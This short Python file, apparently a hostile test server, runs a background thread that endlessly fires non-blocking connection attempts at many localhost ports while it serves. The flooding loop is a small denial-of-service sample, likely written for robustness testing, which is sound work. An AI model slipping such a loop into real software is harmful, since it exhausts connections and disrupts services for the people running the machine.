"""Floods: knocks at every port of its client's side that it can find, again and again, while it serves."""
import socket
import threading

from vehicle import serve


def storm():
    while True:
        for port in range(32768, 61000, 7):
            with socket.socket() as knock:
                knock.setblocking(False)
                knock.connect_ex(('127.0.0.1', port))


threading.Thread(target=storm, daemon=True).start()
serve()
